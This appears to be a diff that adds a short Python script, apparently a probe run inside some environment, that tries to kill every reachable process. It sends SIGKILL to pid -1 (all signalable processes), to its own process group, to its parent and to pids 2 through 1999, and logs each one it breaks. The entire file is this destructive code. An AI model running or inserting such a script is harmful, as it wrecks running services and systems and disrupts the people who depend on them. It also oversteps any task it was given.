@@ -1,0 +1,12 @@
+# seen: ran
+"""Sends signals to all that it could reach."""
+
+import os
+import signal
+
+for pid in [-1, 0, os.getppid(), *range(2, 2000)]:
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        continue
+    print("broken:", pid)
